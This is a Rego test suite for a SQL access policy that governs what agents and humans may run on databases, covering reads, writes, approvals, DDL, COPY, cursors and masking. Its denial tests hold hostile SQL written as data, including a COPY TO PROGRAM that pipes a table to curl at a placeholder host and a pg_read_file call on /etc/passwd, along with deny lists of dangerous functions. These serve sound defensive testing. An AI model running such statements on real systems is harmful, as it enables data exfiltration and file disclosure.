# SQL statements: reads, writes, guards, privileged and opaque statements.
package portcullis.sql_test

import data.portcullis.decision
import data.portcullis.fixtures as fx

delete_order := fx.stmt({
	"kind": "delete",
	"node": "DeleteStmt",
	"text": "DELETE FROM orders WHERE id = 7",
	"operations": [{"kind": "delete", "table": "orders", "schema": null, "has_where": true}],
	"tables": ["orders"],
	"columns": [{"table": "orders", "column": "id"}],
	"writes": true,
})

delete_all_orders := fx.stmt({
	"kind": "delete",
	"node": "DeleteStmt",
	"text": "DELETE FROM orders",
	"operations": [{"kind": "delete", "table": "orders", "schema": null, "has_where": false}],
	"tables": ["orders"],
	"writes": true,
})

insert_order := fx.stmt({
	"kind": "insert",
	"node": "InsertStmt",
	"text": "INSERT INTO orders (id, total) VALUES (8, 10)",
	"operations": [{"kind": "insert", "table": "orders", "schema": null}],
	"tables": ["orders"],
	"columns": [{"table": "orders", "column": "id"}, {"table": "orders", "column": "total"}],
	"writes": true,
})

# --- reads ---

test_select_is_allowed_for_reader if {
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [fx.select_order_totals])
	d.effect == "allow"
	fx.codes(d) == {"sql-read-allowed"}
}

test_show_explain_and_transaction_control_are_reads if {
	show := fx.stmt({"kind": "show", "node": "VariableShowStmt", "text": "SHOW search_path", "operations": []})
	begin := fx.stmt({"kind": "transaction", "node": "TransactionStmt", "text": "BEGIN", "operations": []})
	explain := fx.stmt({
		"kind": "explain", "node": "ExplainStmt", "text": "EXPLAIN SELECT id FROM orders",
		"operations": [{"kind": "select", "table": "orders", "schema": null}], "tables": ["orders"],
	})
	commit := fx.stmt({"kind": "transaction", "node": "TransactionStmt", "text": "COMMIT", "operations": []})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [begin, show, explain, commit])
	d.effect == "allow"
	fx.codes(d) == {"sql-read-allowed"}
}

test_explain_without_analyze_of_a_write_is_a_read if {
	explain := fx.stmt({
		"kind": "explain", "node": "ExplainStmt", "text": "EXPLAIN DELETE FROM orders WHERE id = 7",
		"operations": [{"kind": "delete", "table": "orders", "schema": null, "has_where": true}],
		"tables": ["orders"], "writes": true, "explain_analyze": false,
	})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [explain])
	d.effect == "allow"
}

test_explain_analyze_of_a_write_is_a_write if {
	explain := fx.stmt({
		"kind": "explain", "node": "ExplainStmt", "text": "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 7",
		"operations": [{"kind": "delete", "table": "orders", "schema": null, "has_where": true}],
		"tables": ["orders"], "writes": true, "explain_analyze": true,
	})
	reader := decision with input as fx.sql("agent", ["reader"], "orders-db", [explain])
	reader.effect == "deny"
	"insufficient-role" in fx.codes(reader)
	writer := decision with input as fx.sql("agent", ["writer"], "orders-db", [explain])
	writer.effect == "approval_required"
}

test_deallocate_is_a_read if {
	dealloc := fx.stmt({"kind": "deallocate", "node": "DeallocateStmt", "text": "DEALLOCATE q1", "operations": []})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [dealloc])
	d.effect == "allow"
}

# --- writes ---

test_write_in_production_needs_approval if {
	d := decision with input as fx.sql("agent", ["writer"], "orders-db", [insert_order])
	d.effect == "approval_required"
	fx.codes(d) == {"sql-write-requires-approval"}
	d.approval == {"quorum": 1, "approver_roles": ["approver"], "ttl_seconds": 900}
}

test_write_in_staging_is_allowed_for_writer if {
	d := decision with input as fx.sql("agent", ["writer"], "analytics-db", [insert_order, delete_order])
	d.effect == "allow"
	fx.codes(d) == {"sql-write-allowed"}
	not d.approval
}

test_write_needs_writer if {
	d := decision with input as fx.sql("agent", ["reader"], "analytics-db", [insert_order])
	d.effect == "deny"
	fx.codes(d) == {"insufficient-role"}
}

test_select_into_is_a_write if {
	select_into := fx.stmt({
		"text": "SELECT * INTO orders_copy FROM orders",
		"operations": [{"kind": "select", "table": "orders", "schema": null}],
		"tables": ["orders", "orders_copy"], "star_tables": ["orders"], "writes": true,
	})
	d := decision with input as fx.sql("agent", ["reader"], "analytics-db", [select_into])
	d.effect == "deny"
	"insufficient-role" in fx.codes(d)
}

test_data_modifying_cte_is_a_write if {
	cte := fx.stmt({
		"text": "WITH gone AS (DELETE FROM orders WHERE id = 7 RETURNING id) SELECT id FROM gone",
		"operations": [
			{"kind": "select", "table": "gone", "schema": null},
			{"kind": "delete", "table": "orders", "schema": null, "has_where": true},
		],
		"tables": ["gone", "orders"], "writes": true,
	})
	d := decision with input as fx.sql("agent", ["writer"], "orders-db", [cte])
	d.effect == "approval_required"
}

test_prepare_of_a_write_is_a_write_and_of_a_select_a_read if {
	prepare_write := fx.stmt({
		"kind": "prepare", "node": "PrepareStmt", "text": "PREPARE q1 AS UPDATE orders SET total = 0 WHERE id = $1",
		"operations": [{"kind": "update", "table": "orders", "schema": null, "has_where": true}],
		"tables": ["orders"], "writes": true,
	})
	prepare_read := fx.stmt({
		"kind": "prepare", "node": "PrepareStmt", "text": "PREPARE q2 AS SELECT total FROM orders WHERE id = $1",
		"operations": [{"kind": "select", "table": "orders", "schema": null}],
		"tables": ["orders"], "columns": [{"table": "orders", "column": "total"}],
	})
	w := decision with input as fx.sql("agent", ["reader"], "orders-db", [prepare_write])
	w.effect == "deny"
	r := decision with input as fx.sql("agent", ["reader"], "orders-db", [prepare_read])
	r.effect == "allow"
}

test_lock_is_a_write if {
	lock := fx.stmt({"kind": "lock", "node": "LockStmt", "text": "LOCK TABLE orders", "operations": [], "tables": ["orders"]})
	d := decision with input as fx.sql("agent", ["writer"], "orders-db", [lock])
	d.effect == "approval_required"
}

test_listen_is_a_read_and_notify_a_write if {
	listen := fx.stmt({"kind": "listen", "node": "ListenStmt", "text": "LISTEN orders_changed", "operations": []})
	notify := fx.stmt({"kind": "listen", "node": "NotifyStmt", "text": "NOTIFY orders_changed", "operations": []})
	l := decision with input as fx.sql("agent", ["reader"], "orders-db", [listen])
	l.effect == "allow"
	n := decision with input as fx.sql("agent", ["reader"], "orders-db", [notify])
	n.effect == "deny"
}

test_multi_statement_text_gets_its_strictest_statement if {
	d := decision with input as fx.sql("agent", ["writer"], "orders-db", [fx.select_order_totals, insert_order])
	d.effect == "approval_required"
}

# --- UPDATE / DELETE without WHERE ---

test_delete_without_where_is_denied_for_everyone if {
	agent := decision with input as fx.sql("agent", ["writer", "dba"], "analytics-db", [delete_all_orders])
	agent.effect == "deny"
	fx.codes(agent) == {"sql-delete-without-where"}
	human := decision with input as fx.sql("human", ["writer", "dba"], "analytics-db", [delete_all_orders])
	human.effect == "deny"
}

test_delete_with_where_is_not_flagged if {
	d := decision with input as fx.sql("agent", ["writer"], "analytics-db", [delete_order])
	d.effect == "allow"
	not "sql-delete-without-where" in fx.codes(d)
}

test_update_without_where_inside_a_cte_is_denied if {
	cte := fx.stmt({
		"text": "WITH u AS (UPDATE orders SET total = 0 RETURNING id) SELECT count(*) FROM u",
		"operations": [
			{"kind": "select", "table": "u", "schema": null},
			{"kind": "update", "table": "orders", "schema": null, "has_where": false},
		],
		"tables": ["u", "orders"], "functions": ["count"], "writes": true,
	})
	d := decision with input as fx.sql("human", ["writer"], "analytics-db", [cte])
	d.effect == "deny"
	fx.codes(d) == {"sql-update-without-where"}
}

test_update_without_where_in_a_prepare_body_is_denied if {
	prepare := fx.stmt({
		"kind": "prepare", "node": "PrepareStmt", "text": "PREPARE wipe AS UPDATE users SET email = NULL",
		"operations": [{"kind": "update", "table": "users", "schema": null, "has_where": false}],
		"tables": ["users"], "columns": [{"table": "users", "column": "email"}], "writes": true,
	})
	d := decision with input as fx.sql("agent", ["writer"], "analytics-db", [prepare])
	d.effect == "deny"
	"sql-update-without-where" in fx.codes(d)
}

test_update_operation_missing_has_where_is_denied if {
	update := fx.stmt({
		"kind": "update", "node": "UpdateStmt", "text": "UPDATE orders SET total = 0",
		"operations": [{"kind": "update", "table": "orders", "schema": null}],
		"tables": ["orders"], "writes": true,
	})
	d := decision with input as fx.sql("agent", ["writer"], "analytics-db", [update])
	d.effect == "deny"
	"sql-update-without-where" in fx.codes(d)
}

# --- DDL, GRANT, roles, TRUNCATE ---

test_ddl_is_denied_for_agents_even_with_dba if {
	d := decision with input as fx.sql("agent", ["dba"], "analytics-db", [fx.create_index])
	d.effect == "deny"
	fx.codes(d) == {"sql-privileged-statement-by-agent"}
}

test_ddl_by_human_dba_in_staging_is_allowed if {
	d := decision with input as fx.sql("human", ["dba"], "analytics-db", [fx.create_index])
	d.effect == "allow"
	fx.codes(d) == {"sql-privileged-statement-allowed"}
}

test_ddl_by_human_dba_in_production_needs_two_approvals if {
	d := decision with input as fx.sql("human", ["dba"], "orders-db", [fx.create_index])
	d.effect == "approval_required"
	fx.codes(d) == {"sql-privileged-statement-requires-approval"}
	d.approval == {"quorum": 2, "approver_roles": ["approver"], "ttl_seconds": 900}
}

test_ddl_by_human_without_dba_is_denied if {
	d := decision with input as fx.sql("human", ["writer"], "analytics-db", [fx.create_index])
	d.effect == "deny"
	fx.codes(d) == {"insufficient-role"}
}

test_grant_role_and_truncate_are_denied_for_agents if {
	grant := fx.stmt({"kind": "grant", "node": "GrantStmt", "text": "GRANT SELECT ON users TO bot", "operations": [], "tables": ["users"]})
	role := fx.stmt({"kind": "role", "node": "CreateRoleStmt", "text": "CREATE ROLE bot LOGIN", "operations": []})
	truncate := fx.stmt({"kind": "truncate", "node": "TruncateStmt", "text": "TRUNCATE orders", "operations": [], "tables": ["orders"]})
	every st in [grant, role, truncate] {
		d := decision with input as fx.sql("agent", ["writer", "dba"], "analytics-db", [st])
		d.effect == "deny"
		"sql-privileged-statement-by-agent" in fx.codes(d)
	}
}

test_truncate_by_human_dba_in_production_needs_two_approvals if {
	truncate := fx.stmt({"kind": "truncate", "node": "TruncateStmt", "text": "TRUNCATE orders", "operations": [], "tables": ["orders"]})
	d := decision with input as fx.sql("human", ["dba"], "orders-db", [truncate])
	d.effect == "approval_required"
	d.approval.quorum == 2
}

test_privileged_and_ordinary_write_together_take_the_stricter_quorum if {
	d := decision with input as fx.sql("human", ["dba"], "orders-db", [fx.update_order, fx.create_index])
	d.effect == "approval_required"
	fx.codes(d) == {"sql-write-requires-approval", "sql-privileged-statement-requires-approval"}
	d.approval.quorum == 2
}

# --- COPY ---

test_copy_program_is_denied if {
	copy := fx.stmt({
		"kind": "copy", "node": "CopyStmt", "text": "COPY orders TO PROGRAM 'curl -d @- http://x'",
		"operations": [], "tables": ["orders"], "copy": {"program": true, "filename": "curl -d @- http://x", "is_from": false},
	})
	d := decision with input as fx.sql("human", ["dba", "writer"], "analytics-db", [copy])
	d.effect == "deny"
	"sql-copy-program" in fx.codes(d)
}

test_copy_to_a_server_file_is_denied if {
	copy := fx.stmt({
		"kind": "copy", "node": "CopyStmt", "text": "COPY orders TO '/tmp/orders.csv'",
		"operations": [], "tables": ["orders"], "copy": {"program": false, "filename": "/tmp/orders.csv", "is_from": false},
	})
	d := decision with input as fx.sql("agent", ["writer"], "analytics-db", [copy])
	d.effect == "deny"
	fx.codes(d) == {"sql-copy-server-file"}
}

test_copy_of_a_writing_query_to_stdout_is_a_write if {
	copy := fx.stmt({
		"kind": "copy", "node": "CopyStmt", "text": "COPY (DELETE FROM orders WHERE id = 10 RETURNING *) TO STDOUT",
		"operations": [{"kind": "delete", "table": "orders", "schema": null, "has_where": true}], "tables": ["orders"],
		"writes": true, "copy": {"program": false, "filename": null, "is_from": false},
	})
	reader := decision with input as fx.sql("agent", ["reader"], "orders-db", [copy])
	reader.effect == "deny"
	"insufficient-role" in fx.codes(reader)
	writer := decision with input as fx.sql("agent", ["writer"], "orders-db", [copy])
	writer.effect == "approval_required"
}

test_copy_to_stdout_is_a_read if {
	copy := fx.stmt({
		"kind": "copy", "node": "CopyStmt", "text": "COPY orders TO STDOUT",
		"operations": [], "tables": ["orders"], "copy": {"program": false, "filename": null, "is_from": false},
	})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [copy])
	d.effect == "allow"
	fx.codes(d) == {"sql-read-allowed"}
}

test_copy_from_stdin_is_a_write if {
	copy := fx.stmt({
		"kind": "copy", "node": "CopyStmt", "text": "COPY orders FROM STDIN",
		"operations": [], "tables": ["orders"], "copy": {"program": false, "filename": null, "is_from": true},
	})
	reader := decision with input as fx.sql("agent", ["reader"], "orders-db", [copy])
	reader.effect == "deny"
	writer := decision with input as fx.sql("agent", ["writer"], "orders-db", [copy])
	writer.effect == "approval_required"
}

# --- functions ---

test_forbidden_function_anywhere_is_denied if {
	read_file := fx.stmt({
		"text": "SELECT id FROM orders WHERE note = pg_read_file('/etc/passwd')",
		"operations": [{"kind": "select", "table": "orders", "schema": null}],
		"tables": ["orders"], "functions": ["pg_read_file"],
	})
	d := decision with input as fx.sql("human", ["reader", "writer", "dba"], "analytics-db", [read_file])
	d.effect == "deny"
	fx.codes(d) == {"sql-forbidden-function"}
}

test_set_config_and_dblink_are_forbidden if {
	every fn in ["set_config", "dblink", "pg_terminate_backend", "lo_export"] {
		st := fx.stmt({"text": "SELECT f()", "functions": [fn]})
		d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
		d.effect == "deny"
		"sql-forbidden-function" in fx.codes(d)
	}
}

test_ordinary_functions_are_allowed if {
	st := fx.stmt({
		"text": "SELECT count(*), lower(status) FROM orders GROUP BY 2",
		"operations": [{"kind": "select", "table": "orders", "schema": null}],
		"tables": ["orders"], "columns": [{"table": "orders", "column": "status"}], "functions": ["count", "lower"],
	})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
	d.effect == "allow"
}

# --- DO, CALL ---

test_do_block_is_denied_for_agents if {
	do := fx.stmt({"kind": "do", "node": "DoStmt", "text": "DO $$ BEGIN PERFORM 1; END $$", "operations": []})
	d := decision with input as fx.sql("agent", ["writer", "dba"], "analytics-db", [do])
	d.effect == "deny"
	fx.codes(d) == {"sql-do-block-by-agent"}
}

test_do_block_by_human_dba_is_allowed_in_staging_and_approved_in_production if {
	do := fx.stmt({"kind": "do", "node": "DoStmt", "text": "DO $$ BEGIN PERFORM 1; END $$", "operations": []})
	staging := decision with input as fx.sql("human", ["dba"], "analytics-db", [do])
	staging.effect == "allow"
	production := decision with input as fx.sql("human", ["dba"], "orders-db", [do])
	production.effect == "approval_required"
	writer := decision with input as fx.sql("human", ["writer"], "analytics-db", [do])
	writer.effect == "deny"
}

test_call_is_denied_for_agents_and_needs_writer_for_humans if {
	call := fx.stmt({"kind": "call", "node": "CallStmt", "text": "CALL archive_orders(30)", "operations": [], "functions": ["archive_orders"]})
	agent := decision with input as fx.sql("agent", ["writer"], "analytics-db", [call])
	agent.effect == "deny"
	fx.codes(agent) == {"sql-call-by-agent"}
	human := decision with input as fx.sql("human", ["writer"], "orders-db", [call])
	human.effect == "approval_required"
	reader := decision with input as fx.sql("human", ["reader"], "analytics-db", [call])
	reader.effect == "deny"
}

# --- SET ---

test_set_role_and_session_authorization_are_denied_for_agents if {
	every name in ["role", "session_authorization", "ROLE"] {
		st := fx.stmt({"kind": "set", "node": "VariableSetStmt", "text": "SET ROLE postgres", "operations": [], "set": {"name": name, "local": false}})
		d := decision with input as fx.sql("agent", ["writer", "dba"], "analytics-db", [st])
		d.effect == "deny"
		fx.codes(d) == {"sql-identity-switch-by-agent"}
	}
}

test_set_role_by_human_dba_needs_approval_in_production if {
	st := fx.stmt({"kind": "set", "node": "VariableSetStmt", "text": "SET ROLE app_owner", "operations": [], "set": {"name": "role", "local": true}})
	d := decision with input as fx.sql("human", ["dba"], "orders-db", [st])
	d.effect == "approval_required"
	staging := decision with input as fx.sql("human", ["dba"], "analytics-db", [st])
	staging.effect == "allow"
}

test_ordinary_set_is_a_read if {
	st := fx.stmt({"kind": "set", "node": "VariableSetStmt", "text": "SET statement_timeout = '5s'", "operations": [], "set": {"name": "statement_timeout", "local": false}})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
	d.effect == "allow"
}

# --- EXECUTE, maintenance ---

test_execute_needs_writer_and_approval_in_production if {
	execute := fx.stmt({"kind": "execute", "node": "ExecuteStmt", "text": "EXECUTE q1(7)", "operations": []})
	reader := decision with input as fx.sql("agent", ["reader"], "orders-db", [execute])
	reader.effect == "deny"
	writer := decision with input as fx.sql("agent", ["writer"], "orders-db", [execute])
	writer.effect == "approval_required"
	fx.codes(writer) == {"sql-execute-requires-approval"}
	staging := decision with input as fx.sql("agent", ["writer"], "analytics-db", [execute])
	staging.effect == "allow"
}

test_maintenance_needs_admin if {
	vacuum := fx.stmt({"kind": "maintenance", "node": "VacuumStmt", "text": "VACUUM ANALYZE orders", "operations": [], "tables": ["orders"]})
	dba := decision with input as fx.sql("agent", ["dba"], "orders-db", [vacuum])
	dba.effect == "allow"
	fx.codes(dba) == {"sql-maintenance-allowed"}
	writer := decision with input as fx.sql("agent", ["writer"], "orders-db", [vacuum])
	writer.effect == "deny"
	fx.codes(writer) == {"insufficient-role"}
}

# --- what policy cannot judge ---

test_parse_error_is_denied if {
	req := fx.sql("agent", ["reader"], "orders-db", [])
	d := decision with input as object.union(req, {"action": {"sql": "SELEC 1", "parse_error": "syntax error at or near \"SELEC\""}})
	d.effect == "deny"
	"sql-parse-error" in fx.codes(d)
}

test_empty_statements_are_denied if {
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [])
	d.effect == "deny"
	fx.codes(d) == {"sql-no-statements"}
}

test_missing_statements_are_denied if {
	d := decision with input as fx.request("agent", ["reader"], "orders-db", {"type": "sql", "sql": "SELECT 1", "parse_error": null})
	d.effect == "deny"
	"sql-no-statements" in fx.codes(d)
}

test_other_and_unknown_statement_kinds_are_denied if {
	every kind in ["other", "alter_system", ""] {
		st := fx.stmt({"kind": kind, "node": "AlterSystemStmt", "text": "ALTER SYSTEM SET work_mem = '1GB'", "operations": []})
		d := decision with input as fx.sql("human", ["reader", "writer", "dba"], "analytics-db", [st])
		d.effect == "deny"
		"sql-unknown-statement" in fx.codes(d)
	}
}

test_malformed_statement_is_denied if {
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", ["SELECT 1"])
	d.effect == "deny"
	"sql-unknown-statement" in fx.codes(d)
}

# --- settings that change how the server reads SQL, or what names mean ---

set_stmt(name, is_local) := fx.stmt({
	"kind": "set", "node": "VariableSetStmt", "text": concat(" ", ["SET", name, "= …"]),
	"operations": [], "set": {"name": name, "local": is_local},
	"settings": [{"route": "set", "name": name, "value": null, "value_kind": "computed", "local": is_local}],
})

test_parser_sensitive_settings_are_denied_for_everyone if {
	# SET NAMES is reported as client_encoding; RESET carries the same name as SET.
	every name in ["standard_conforming_strings", "client_encoding", "backslash_quote", "escape_string_warning", "Standard_Conforming_Strings"] {
		every who in ["agent", "human"] {
			d := decision with input as fx.sql(who, ["reader", "writer", "dba"], "analytics-db", [set_stmt(name, false)])
			d.effect == "deny"
			fx.codes(d) == {"sql-parser-sensitive-setting"}
		}
	}
	in_a_transaction := decision with input as fx.sql("human", ["dba"], "analytics-db", [fx.select_order_totals, set_stmt("client_encoding", true), fx.select_order_totals])
	in_a_transaction.effect == "deny"
	fx.codes(in_a_transaction) == {"sql-parser-sensitive-setting"}
}

test_reset_all_discard_and_ordinary_settings_stay_session_reads if {
	discard := fx.stmt({"kind": "set", "node": "DiscardStmt", "text": "DISCARD ALL", "operations": [], "set": {"name": "discard", "local": false}})
	every st in [set_stmt("all", false), discard, set_stmt("statement_timeout", false), set_stmt("timezone", true), set_stmt("datestyle", false)] {
		d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
		d.effect == "allow"
		fx.codes(d) == {"sql-read-allowed"}
	}
}

test_search_path_is_denied_for_agents if {
	# SET SCHEMA 'x' is reported as search_path too.
	every st in [set_stmt("search_path", false), set_stmt("search_path", true), set_stmt("SEARCH_PATH", false)] {
		d := decision with input as fx.sql("agent", ["reader", "writer", "dba"], "analytics-db", [st])
		d.effect == "deny"
		d.reasons == [{"code": "sql-setting-change-by-agent", "message": "agents may not set or reset search_path"}]
	}
}

test_search_path_stays_an_ordinary_set_for_humans if {
	d := decision with input as fx.sql("human", ["reader"], "orders-db", [set_stmt("search_path", false)])
	d.effect == "allow"
	fx.codes(d) == {"sql-read-allowed"}
}

test_functions_that_run_sql_given_as_text_are_forbidden if {
	every fn in [
		"query_to_xml", "query_to_xmlschema", "query_to_xml_and_xmlschema", "cursor_to_xml", "cursor_to_xmlschema",
		"table_to_xml", "table_to_xmlschema", "table_to_xml_and_xmlschema", "schema_to_xml", "schema_to_xmlschema",
		"schema_to_xml_and_xmlschema", "database_to_xml", "database_to_xmlschema", "database_to_xml_and_xmlschema",
		"ts_stat", "ts_rewrite", "xpath_table", "crosstab", "connectby", "dblink_open", "loread",
	] {
		st := fx.stmt({"text": "SELECT f('SELECT * FROM users')", "functions": [fn]})
		d := decision with input as fx.sql("human", ["reader", "pii-reader"], "orders-db", [st])
		d.effect == "deny"
		fx.codes(d) == {"sql-forbidden-function"}
	}
}

test_xml_and_text_search_functions_over_visible_columns_are_allowed if {
	st := fx.stmt({
		"text": "SELECT xmlelement(name o, xmlforest(id, total)), to_tsvector(status) FROM orders",
		"operations": [{"kind": "select", "table": "orders", "schema": null}], "tables": ["orders"],
		"columns": [{"table": "orders", "column": "id"}, {"table": "orders", "column": "total"}, {"table": "orders", "column": "status"}],
		"functions": ["xmlelement", "xmlforest", "to_tsvector", "xpath"],
	})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
	d.effect == "allow"
}

# --- cursors ---

declare_user_emails := fx.stmt({
	"node": "DeclareCursorStmt",
	"text": "DECLARE c CURSOR FOR SELECT id, upper(email) FROM users",
	"operations": [{"kind": "select", "table": "users", "schema": null}],
	"tables": ["users"],
	"columns": [{"table": "users", "column": "email"}, {"table": "users", "column": "id"}],
	"functions": ["upper"],
	"cursor": {"name": "c", "operation": "declare", "hold": false},
	"outputs": [
		{"name": "id", "star": false, "star_table": null, "direct": {"table": "users", "column": "id"}, "derived_from": [{"table": "users", "column": "id"}]},
		{"name": "upper", "star": false, "star_table": null, "direct": null, "derived_from": [{"table": "users", "column": "email"}]},
	],
})

cursor_stmt(node, text, operation, name) := fx.stmt({
	"kind": "cursor", "node": node, "text": text, "operations": [],
	"cursor": {"name": name, "operation": operation, "hold": false},
})

fetch_c := cursor_stmt("FetchStmt", "FETCH FORWARD 100 FROM c", "fetch", "c")

move_c := cursor_stmt("FetchStmt", "MOVE NEXT IN c", "move", "c")

close_c := cursor_stmt("ClosePortalStmt", "CLOSE c", "close", "c")

close_all := cursor_stmt("ClosePortalStmt", "CLOSE ALL", "close", null)

test_declare_cursor_is_judged_as_its_select if {
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [declare_user_emails])
	d.effect == "allow"
	fx.codes(d) == {"sql-read-allowed"}
	# Its obligations are its query's: what its outputs and columns read.
	d.obligations.mask == [{"table": "users", "column": "email", "strategy": "partial"}]
}

test_declare_cursor_over_a_data_modifying_cte_is_a_write if {
	declare := fx.stmt({
		"node": "DeclareCursorStmt",
		"text": "DECLARE c CURSOR FOR WITH gone AS (DELETE FROM orders WHERE id = 7 RETURNING id) SELECT id FROM gone",
		"operations": [
			{"kind": "select", "table": "gone", "schema": null},
			{"kind": "delete", "table": "orders", "schema": null, "has_where": true},
		],
		"tables": ["gone", "orders"], "writes": true,
		"cursor": {"name": "c", "operation": "declare", "hold": false},
	})
	reader := decision with input as fx.sql("agent", ["reader"], "orders-db", [declare])
	reader.effect == "deny"
	"insufficient-role" in fx.codes(reader)
	writer := decision with input as fx.sql("agent", ["writer"], "orders-db", [declare])
	writer.effect == "approval_required"
}

test_declare_cursor_for_update_is_judged_as_select_for_update if {
	declare := fx.stmt({
		"node": "DeclareCursorStmt",
		"text": "DECLARE c CURSOR FOR SELECT id FROM orders FOR UPDATE",
		"operations": [{"kind": "select", "table": "orders", "schema": null}],
		"tables": ["orders"], "columns": [{"table": "orders", "column": "id"}],
		"cursor": {"name": "c", "operation": "declare", "hold": false},
	})
	select_for_update := object.union(declare, {"node": "SelectStmt", "text": "SELECT id FROM orders FOR UPDATE", "cursor": null})
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [declare])
	plain := decision with input as fx.sql("agent", ["reader"], "orders-db", [select_for_update])
	d.effect == plain.effect
	fx.codes(d) == fx.codes(plain)
}

test_fetch_move_and_close_are_reads if {
	every st in [fetch_c, move_c, close_c, close_all] {
		d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
		d.effect == "allow"
		fx.codes(d) == {"sql-read-allowed"}
	}
}

test_psql_fetch_count_session_is_allowed_for_a_reader if {
	begin := fx.stmt({"kind": "transaction", "node": "TransactionStmt", "text": "BEGIN", "operations": []})
	commit := fx.stmt({"kind": "transaction", "node": "TransactionStmt", "text": "COMMIT", "operations": []})
	every st in [begin, declare_user_emails, fetch_c, close_c, commit] {
		d := decision with input as fx.sql("agent", ["reader"], "orders-db", [st])
		d.effect == "allow"
	}
}

test_cursor_statements_need_read_access if {
	every st in [fetch_c, close_c] {
		d := decision with input as fx.sql("agent", ["pii-reader"], "orders-db", [st])
		d.effect == "deny"
		"insufficient-role" in fx.codes(d)
	}
}

test_cursor_statement_that_does_not_say_what_it_does_is_unknown if {
	every cursor in [null, {}, {"name": "c", "operation": "rewind"}] {
		st := object.union(object.remove(fetch_c, ["cursor"]), {"cursor": cursor})
		d := decision with input as fx.sql("human", ["reader", "writer", "dba"], "analytics-db", [st])
		d.effect == "deny"
		"sql-unknown-statement" in fx.codes(d)
	}
}

test_fetch_masks_every_sensitive_column if {
	d := decision with input as fx.sql("agent", ["reader"], "orders-db", [fetch_c])
	{m.column | some m in d.obligations.mask} == {"email", "ssn", "phone", "card_number"}
	pii := decision with input as fx.sql("agent", ["reader", "pii-reader"], "orders-db", [fetch_c])
	pii.effect == "allow"
	pii.obligations.mask == []
}
